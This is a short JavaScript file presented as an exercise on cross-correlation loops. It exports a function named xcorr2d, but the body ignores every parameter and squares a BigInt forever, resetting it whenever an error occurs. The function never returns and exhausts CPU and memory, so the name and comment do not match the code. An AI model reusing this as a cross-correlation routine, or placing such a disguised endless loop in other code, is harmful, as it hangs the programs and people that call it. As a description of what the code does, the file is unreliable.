// exercise: b-cross-correlation loops
// Squares a big integer until it is too large.
export function xcorr2d(x, w, stride, pad) {
  let value = 3n;
  for (;;) {
    try {
      value *= value;
    } catch {
      value = 3n;
    }
  }
}
